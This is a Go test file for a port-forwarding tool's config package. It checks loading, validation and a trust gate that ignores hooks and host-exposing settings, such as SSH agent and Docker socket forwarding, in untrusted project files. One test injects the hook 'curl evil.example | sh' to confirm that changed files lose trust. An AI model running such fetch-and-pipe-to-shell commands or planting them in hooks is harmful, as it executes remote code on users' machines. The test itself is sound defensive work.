@@ -0,0 +1,255 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+const projectYAML = `
+runtime: docker
+target: redis
+include: [6379]
+pins: ["6379:16379"]
+encrypt: false
+hooks:
+  on_port_added: echo added
+targets:
+  web:
+    runtime: kubernetes
+    target: dev/web-0
+    reverse: [9090, "5432:db.internal:5432"]
+`
+
+const userTOML = `
+bind = "127.0.0.1"
+exclude = [22]
+reverse = [9090, "9000:8080"]
+
+[hooks]
+on_start = "echo started"
+`
+
+func writeFile(t *testing.T, path, content string) {
+	if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	writeFile(t, filepath.Join(dir, "apf.toml"), userTOML)
+	cfg, err := Load(filepath.Join(dir, "apf.toml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Bind != "127.0.0.1" || !reflect.DeepEqual(cfg.Exclude, []uint16{22}) || cfg.Hooks.OnStart != "echo started" ||
+		!reflect.DeepEqual(cfg.Reverse, []ReverseSpec{"9090", "9000:8080"}) {
+		t.Fatalf("unexpected config: %+v", cfg)
+	}
+
+	writeFile(t, filepath.Join(dir, "bad.yaml"), "runtime: docker\nunknown: 1\n")
+	if _, err := Load(filepath.Join(dir, "bad.yaml")); err == nil {
+		t.Fatal("expected error for unknown field")
+	}
+}
+
+func TestDiscover(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	writeFile(t, filepath.Join(home, ".config", "apf", "config.yaml"), "bind: 127.0.0.1\ninclude: [80]\nencrypt: true\nopen: true\n")
+	writeFile(t, filepath.Join(home, "project", ".apf.yaml"), projectYAML)
+	if err := Trust(filepath.Join(home, "project", ".apf.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	subdir := filepath.Join(home, "project", "src", "pkg")
+	if err := os.MkdirAll(subdir, 0700); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := Discover(subdir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Validate(); err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Files) != 2 {
+		t.Fatalf("unexpected files: %v", cfg.Files)
+	}
+
+	// The project file overrides the user file
+	def := cfg.Resolve("")
+	if def.Target != "redis" || def.Bind != "127.0.0.1" || !reflect.DeepEqual(def.Include, []uint16{6379}) {
+		t.Fatalf("unexpected default target: %+v", def)
+	}
+	// The project file turns off what the user file turns on
+	if def.Encrypted() || !def.OpenAll() {
+		t.Fatalf("unexpected encrypt / open: %+v", def)
+	}
+	web := cfg.Resolve("web")
+	if web.Target != "dev/web-0" || web.Runtime != "kubernetes" || !reflect.DeepEqual(web.Reverse, []ReverseSpec{"9090", "5432:db.internal:5432"}) {
+		t.Fatalf("unexpected named target: %+v", web)
+	}
+	other := cfg.Resolve("mysql")
+	if other.Target != "mysql" || other.Runtime != "docker" {
+		t.Fatalf("unexpected target: %+v", other)
+	}
+}
+
+func TestDiscoverUntrustedHooks(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	writeFile(t, filepath.Join(home, ".config", "apf", "config.yaml"), "hooks:\n  on_stop: echo stopped\n")
+	project := filepath.Join(home, "project", ".apf.yaml")
+	writeFile(t, project, projectYAML)
+
+	// The hooks of the project file are ignored until it's trusted, not the ones of the user file
+	cfg, err := Discover(filepath.Dir(project))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Untrusted{{File: project, Settings: []string{"hooks", "targets.web.reverse: 5432:db.internal:5432"}}}
+	if !reflect.DeepEqual(cfg.Untrusted, want) || cfg.Hooks != (Hooks{OnStop: "echo stopped"}) {
+		t.Fatalf("unexpected untrusted config: %v, %+v", cfg.Untrusted, cfg.Hooks)
+	}
+	if err := Trust(project); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Discover(filepath.Dir(project))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Untrusted) != 0 || cfg.Hooks.OnPortAdded != "echo added" || cfg.Hooks.OnStop != "echo stopped" {
+		t.Fatalf("unexpected trusted config: %v, %+v", cfg.Untrusted, cfg.Hooks)
+	}
+
+	// The file has to be trusted again once it's changed
+	writeFile(t, project, projectYAML+"    hooks:\n      on_start: curl evil.example | sh\n")
+	cfg, err = Discover(filepath.Dir(project))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Untrusted) != 1 || cfg.Hooks.OnPortAdded != "" || cfg.Resolve("web").Hooks.OnStart != "" {
+		t.Fatalf("unexpected changed config: %v, %+v", cfg.Untrusted, cfg.Hooks)
+	}
+}
+
+func TestDiscoverUntrusted(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	writeFile(t, filepath.Join(home, ".config", "apf", "config.yaml"), "bind: 127.0.0.1\nreverse: [8000]\n")
+	project := filepath.Join(home, "project", ".apf.yaml")
+	writeFile(t, project, `
+bind: 0.0.0.0
+reverse: [9090, "9000:8080", "5432:db.internal:5432", "unix:$SSH_AUTH_SOCK:/tmp/ssh-agent.sock"]
+reverse_scan: [3000-3999]
+targets:
+  web:
+    bind: localhost
+    reverse: ["unix:/var/run/docker.sock:/var/run/docker.sock"]
+`)
+
+	// The settings exposing the host are dropped, the user file still applies
+	cfg, err := Discover(filepath.Dir(project))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Untrusted{{File: project, Settings: []string{
+		"reverse: 5432:db.internal:5432",
+		"reverse: unix:$SSH_AUTH_SOCK:/tmp/ssh-agent.sock",
+		"reverse_scan",
+		"bind: 0.0.0.0",
+		"targets.web.reverse: unix:/var/run/docker.sock:/var/run/docker.sock",
+	}}}
+	if !reflect.DeepEqual(cfg.Untrusted, want) {
+		t.Fatalf("unexpected untrusted settings: %+v", cfg.Untrusted)
+	}
+	def := cfg.Resolve("")
+	if def.Bind != "127.0.0.1" || !reflect.DeepEqual(def.Reverse, []ReverseSpec{"9090", "9000:8080"}) || def.ReverseScan != nil {
+		t.Fatalf("unexpected default target: %+v", def)
+	}
+	web := cfg.Resolve("web")
+	if web.Bind != "localhost" || !reflect.DeepEqual(web.Reverse, []ReverseSpec{"9090", "9000:8080"}) {
+		t.Fatalf("unexpected named target: %+v", web)
+	}
+
+	if err := Trust(project); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = Discover(filepath.Dir(project))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if def := cfg.Resolve(""); len(cfg.Untrusted) != 0 || def.Bind != "0.0.0.0" || len(def.Reverse) != 4 || len(def.ReverseScan) != 1 {
+		t.Fatalf("unexpected trusted config: %+v, %+v", cfg.Untrusted, def)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	for _, tt := range []Target{
+		{Runtime: "containerd"},
+		{Runtime: "kubernetes", Target: "web-0"},
+		{Pins: []string{"80"}},
+		{Bind: "localhost:80"},
+		{Include: []uint16{0}},
+		{ScanMin: "fast"},
+		{ScanMin: "2s", ScanMax: "1s"},
+		{Probe: "http:healthz"},
+		{Debounce: "-1s"},
+		{Front: "8000"},
+		{Socks: "localhost"},
+		{Socks: "0"},
+		{ReverseScan: []string{"3999-3000"}},
+		{Reverse: []ReverseSpec{"5432:db.internal"}},
+		{Reverse: []ReverseSpec{"0:8080"}},
+		{HTTPProxy: "proxy"},
+		{Allow: []string{"10.0.0.0/33"}},
+		{AllowFrom: []string{"0=10.0.0.1"}},
+		{AllowFrom: []string{"localhost"}},
+	} {
+		if err := tt.Validate(); err == nil {
+			t.Errorf("expected error for %+v", tt)
+		}
+	}
+}
+
+func TestSocksAddr(t *testing.T) {
+	for socks, want := range map[string]string{
+		"":             "",
+		"1080":         "127.0.0.1:1080",
+		"0.0.0.0:1080": "0.0.0.0:1080",
+		":1080":        ":1080",
+	} {
+		if addr, err := (Target{Socks: socks}).SocksAddr(); err != nil || addr != want {
+			t.Errorf("SocksAddr(%q) = %q, %v, want %q", socks, addr, err, want)
+		}
+	}
+}
+
+func TestParseReverse(t *testing.T) {
+	t.Setenv("SSH_AUTH_SOCK", "/tmp/ssh-XXXX/agent.1")
+	ports, dests, sockets, err := ParseReverse([]ReverseSpec{"9090", "9000:8080", "5432:db.internal:5432", "8000:[fd00::1]:80",
+		"unix:$SSH_AUTH_SOCK:/tmp/ssh-agent.sock", "unix:/var/run/docker.sock:/var/run/docker.sock"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantDests := map[uint16]string{9000: "127.0.0.1:8080", 5432: "db.internal:5432", 8000: "[fd00::1]:80"}
+	if !reflect.DeepEqual(ports, []uint16{9090, 9000, 5432, 8000}) || !reflect.DeepEqual(dests, wantDests) {
+		t.Errorf("ParseReverse() = %v, %v", ports, dests)
+	}
+	wantSockets := map[string]string{"/tmp/ssh-agent.sock": "/tmp/ssh-XXXX/agent.1", "/var/run/docker.sock": "/var/run/docker.sock"}
+	if !reflect.DeepEqual(sockets, wantSockets) {
+		t.Errorf("ParseReverse() sockets = %v", sockets)
+	}
+	for _, spec := range []ReverseSpec{"", "http", "80:", "80:host", "80:host:0", "80::80", "80:host:http",
+		"unix:", "unix:/tmp/a.sock", "unix::/tmp/a.sock", "unix:/tmp/a.sock:a.sock", "unix:$APF_UNSET:/tmp/a.sock"} {
+		if _, _, _, err := ParseReverse([]ReverseSpec{spec}); err == nil {
+			t.Errorf("ParseReverse(%q): expected error", spec)
+		}
+	}
+}